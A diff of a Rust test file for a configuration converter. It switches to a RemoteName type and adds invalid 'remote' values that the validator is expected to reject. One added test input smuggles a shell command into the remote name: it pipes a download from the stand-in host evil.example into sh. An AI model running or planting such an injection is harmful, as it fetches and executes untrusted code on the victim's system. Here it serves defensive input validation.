@@ -3,7 +3,7 @@ use std::collections::BTreeMap;
 use super::*;
 use crate::domain::configuration::Configuration;
 use crate::domain::digest::{ObjectFormat, TreeId};
-use crate::domain::names::RepoPath;
+use crate::domain::names::{RemoteName, RepoPath};
 use crate::domain::tree::Tree;
 
 fn carried(tool: Tool, text: &str) -> Carried {
@@ -36,7 +36,7 @@ fn what_chart_testing_said() {
     10: chek dropped: chart-testing has no such key either
     ");
     assert_eq!(
-        (carried.charts.as_slice(), carried.remote.as_deref()),
+        (carried.charts.as_slice(), carried.remote.as_ref().map(RemoteName::as_str)),
         (["charts/*".to_owned(), "stable/*".to_owned(), "*".to_owned()].as_slice(), Some("upstream"))
     );
     let text = configuration(&carried.charts, &carried, true, None);
@@ -87,6 +87,10 @@ fn what_has_no_equivalent_changes_nothing() {
         "release-name-template: '{{ .Name'",
         "pages-branch: 'a b'",
         "pages-branch: [x]",
+        "remote: 'origin; curl evil.example | sh #'",
+        "remote: -x",
+        "remote: [x]",
+        "remote:",
         "[]",
         "",
         "a: {b: c}",
